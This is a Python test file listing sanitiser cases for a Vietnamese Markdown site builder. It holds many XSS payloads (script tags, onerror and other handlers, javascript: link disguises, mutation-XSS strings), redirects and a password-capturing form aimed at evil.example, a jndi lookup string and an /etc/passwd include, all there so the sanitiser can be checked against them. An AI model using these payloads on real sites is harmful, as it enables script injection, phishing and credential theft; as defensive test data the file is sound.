"""Active content: script, handlers, frames and forms are taken out, what is text stays."""

from ..case import error, item, ok, sanitised

KEPT = "Câu văn giữ lại."


def _payload(name: str, payload: str, hides: tuple[str, ...] = (), line: int = 8, quiet: bool = False) -> object:
    """A body with a payload in line 8, between two paragraphs of which the first must stay."""
    told = () if quiet else (f"html-removed@{line}",)
    return sanitised(name, item(f"{KEPT}\n\n{payload}\n\nCâu cuối.\n"), *told, shows=KEPT, hides=hides)


CASES = (
    # script
    _payload("js-script", "<script>alert(1)</script>", ("alert(1)",)),
    _payload("js-script-src", '<script src="https://evil.example/x.js"></script>', ("evil.example",)),
    sanitised("js-script-case", item(f"{KEPT}\n\n<ScRiPt\n>alert(1)</sCrIpT>\n"), "html-removed@8", "html-removed@9", shows=KEPT, hides="alert(1)"),
    _payload("js-script-slash", "<script/x>alert(1)</script>", ("alert(1)",)),
    _payload("js-script-inline", "Chữ <script>alert(1)</script> chữ.", ("alert(1)",)),
    _payload("js-script-unclosed", "<script>alert(1)"),
    _payload("js-script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    # handlers
    _payload("js-onerror", '<img src="/hinh-anh/anh-nho.png" alt="ảnh" onerror=alert(1)>', ("onerror=",)),
    _payload("js-onerror-no-picture", "<img src=x onerror=alert(1)>", ("onerror=", "<img src=x")),
    _payload("js-onerror-image", "<image src='x' onerror='alert(1)'>", ("onerror=", "<ima")),
    _payload("js-onerror-inline", "Chữ <img/src=x/onerror=alert(1)> chữ.", ("onerror=",)),
    _payload("js-onerror-case", "<IMG SRC=x ONERROR=alert(1)>", ("ONERROR=", "onerror=")),
    _payload("js-onclick", '<a href="/trang/gioi-thieu.md" onclick="alert(1)">chữ</a>', ("onclick=",)),
    _payload("js-onmouseover-slash", "<p/onmouseover=alert(1)>chữ</p>", ("<p/", "<p onm")),
    _payload("js-onfocus", "<b tabindex=1 onfocus=alert(1) autofocus>chữ</b>", ("<b tab",)),
    _payload("js-ontoggle", "<details open ontoggle=alert(1)>chữ</details>", ("<details open",)),
    _payload("js-handler-new-line", "<b\nonclick=alert(1)>chữ</b>", ("<b\n", "<b onclick"), quiet=True),
    _payload("js-attr-list", "Chữ {: onclick=alert(1) }", ("<p onclick", 'onclick="'), quiet=True),
    _payload("js-attr-list-span", "*chữ*{: onmouseover=alert(1) style=color:red }", ("<em onm", "style="), quiet=True),
    # javascript: and its disguises
    sanitised("js-link-html", item('<a href="javascript:alert(1)">chữ</a>\n'), "html-removed@6", "target-scheme@6", shows="chữ", hides='href="javascript'),
    sanitised("js-link", item("[chữ](javascript:alert(1))\n"), "html-removed@6", "target-scheme@6", shows=">chữ<", hides='href="javascript'),
    sanitised("js-link-case", item("[chữ](JaVaScRiPt:alert(1))\n"), "html-removed@6", "target-scheme@6", hides="href=\"JaVa"),
    sanitised("js-link-vbscript", item("[chữ](vbscript:msgbox(1))\n"), "html-removed@6", "target-scheme@6", hides='href="vbscript'),
    sanitised("js-link-data", item("[chữ](data:text/html;base64,PHNjcmlwdD4=)\n"), "target-scheme@6", hides='href="data:'),
    _payload("js-link-entity", '<a href="java&#115;cript:alert(1)">chữ</a>', ('href="java',), quiet=True),
    _payload("js-link-entity-tab", '<a href="java&#9;script:alert(1)">chữ</a>', ('href="java',), quiet=True),
    _payload("js-link-control", '<a href="&#1;javascript:alert(1)">chữ</a>', ('javascript:alert',)),
    _payload("js-reference", "[chữ][x]\n\n[x]: javascript:alert(1)", ('href="javascript',), line=10),
    sanitised("js-autolink", item("<javascript:alert(1)>\n"), "html-removed@6", hides='href="javascript'),
    # other elements that run
    _payload("js-svg-inline", "<svg onload=alert(1)></svg>", ("<svg onl",)),
    _payload("js-svg-script", "<svg><script>alert(1)</script></svg>", ("alert(1)",)),
    _payload("js-iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ("srcdoc=",)),
    _payload("js-object", '<object data="data:text/html,x"></object>', ("<object",)),
    _payload("js-embed", '<embed src="https://evil.example/x.swf">', ("<embed", "evil.example")),
    _payload("js-math", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ("javascript:",)),
    _payload("js-video", "<video><source onerror=alert(1)></video>", ("<video", "<source")),
    _payload("js-template", "<template><img src=x onerror=alert(1)></template>", ("onerror",)),
    _payload("js-mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ("<img src=x", "<img src=\"x")),
    error("js-mxss-math", item('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">\n'), "comment-unclosed@6"),
    sanitised("js-mxss-select", item('<select><template><style><!--</style><a rel="--></style></select><img id=x src onerror=alert(1)>">\n\nCâu.\n'), "comment-removed@6", "html-removed@6", hides="<img id"),
    # what moves, frames or imitates the page
    _payload("base-tag", '<base href="https://evil.example/">', ("evil.example",)),
    _payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', ("evil.example",)),
    _payload("iframe-outside", '<iframe src="https://evil.example/"></iframe>', ("evil.example",)),
    _payload("form-phish", '<form action="https://evil.example/"><input name="matkhau"><button>Gửi</button></form>', ("evil.example", "matkhau")),
    _payload("css-style", "<style>body{display:none}</style>", ("display:none",)),
    _payload("css-link", '<link rel="stylesheet" href="https://evil.example/x.css">', ("evil.example",)),
    _payload("css-overlay", '<div style="position:fixed;inset:0">chữ</div>', ("position:fixed",), quiet=True),
    _payload("css-class", '<div class="skip tieu-de">chữ</div>', ("skip tieu-de",), quiet=True),
    _payload("id-of-theme", '<div id="trang-noi-dung">chữ</div>', (), quiet=True),
    # markup that is not balanced
    _payload("unclosed-div", "</main></body></html>"),
    _payload("unclosed-div-open", "<div><div><table><tr><td>chữ", quiet=True),
    _payload("unclosed-bold", "<b><i>chữ", quiet=True),
    _payload("unclosed-quote", '<a href="x>chữ', quiet=True),
    _payload("unclosed-textarea", "<textarea><plaintext>", ("<textarea", "<plaintext")),
    _payload("unclosed-title", "<title><xmp>", ("<xmp",)),
    sanitised("html-comment", item(f"{KEPT}\n\n<!-- ghi chú nội bộ: chưa trình ký -->\n\nCâu cuối.\n"), "comment-removed@8", shows=KEPT, hides="nội bộ"),
    sanitised("html-comment-lines", item(f"{KEPT} <!-- một\n\nhai nội bộ --> Câu cuối.\n"), "comment-removed@6", shows=KEPT, hides="nội bộ"),
    error("unclosed-comment", item(f"{KEPT}\n\n<!-- ghi chú nội bộ\n"), "comment-unclosed@8"),
    error("unclosed-comment-inline", item("Chữ <!-- nội bộ -- > chữ.\n"), "comment-unclosed@6"),
    error("unclosed-comment-second", item("Chữ <!-- a --> chữ.\n\nRồi <!-- b\n"), "comment-removed@6", "comment-unclosed@8"),
    sanitised("html-comment-declaration", item(f"{KEPT}\n\n<!DOCTYPE html><![CDATA[ nội bộ ]]>\n"), shows=KEPT),
    sanitised("html-processing", item(f"{KEPT}\n\n<?php echo 1; ?>\n"), shows=KEPT, hides="<?php"),
    # pasted from Word
    sanitised(
        "word-paste",
        item('<p class="MsoNormal" style="margin:0"><o:p></o:p><span lang="VI">Văn bản dán.</span></p>\n\n<!--[if gte mso 9]><xml></xml><![endif]-->\n'),
        "comment-removed@8",
        shows="Văn bản dán.",
        hides=("Mso", "margin", "gte mso"),
    ),
    sanitised("word-bookmarks", item('<p><a name="_GoBack" id="_GoBack"></a>Một.</p>\n\n<p><a id="_GoBack"></a>Hai.</p>\n'), shows=("Một.", "Hai.")),
    # the head of the item
    sanitised("js-title", item(title="'Bài thử <script>alert(1)</script>'"), "title-html@2", shows="&lt;script&gt;alert(1)&lt;/script&gt;", hides="<script>alert"),
    sanitised("js-title-img", item(title="'Bài thử <img src=x onerror=alert(1)>'"), "title-html@2", shows="&lt;img src=x", hides="<img src=x"),
    sanitised("js-title-breakout", item(title="""'Bài thử </title><svg onload=alert(1)>" x="'"""), "title-html@2", hides="<svg onload"),
    sanitised("js-title-cdata", item(title="'Bài thử ]]><script>alert(1)</script>'"), "title-html@2", hides="<script>alert"),
    sanitised("js-summary", item(summary="'<img src=x onerror=alert(1)> tóm tắt'"), shows="&lt;img src=x", hides="<img src=x"),
    sanitised("js-summary-entity", item(summary="'&lt;script&gt;alert(1)&lt;/script&gt;'"), shows="&amp;lt;script"),
    # template language is text
    ok("include-directive", item("{{ 7*7 }} và {% include 'base.html' %}\n"), shows=("{{ 7*7 }}", "{% include")),
    ok("include-config", item("{{ config.items() }} {# ghi chú #} ${jndi:ldap://x}\n"), shows=("{{ config.items() }}", "{# ghi chú #}")),
    ok("include-title", item(title="'Bài thử {{ 7*7 }}'"), shows="{{ 7*7 }}", hides="49"),
    ok("toc-marker", item("[TOC]\n\n## Một\n\nChữ.\n"), shows="[TOC]"),
    # only .md is an item
    error("html-item", {"tin-tuc/2026/bai.html": "<script>alert(1)</script>"}, "file-kind@0 tin-tuc/2026/bai.html"),
    error("rst-item", {"tin-tuc/2026/bai.rst": "Bài\n===\n.. include:: /etc/passwd\n"}, "file-kind@0 tin-tuc/2026/bai.rst"),
    error("htm-page", {"trang/bai.htm": "<p>Chữ</p>"}, "file-kind@0 trang/bai.htm"),
    error("markdown-ending", {"tin-tuc/2026/bai.markdown": item()}, "file-kind@0 tin-tuc/2026/bai.markdown"),
)
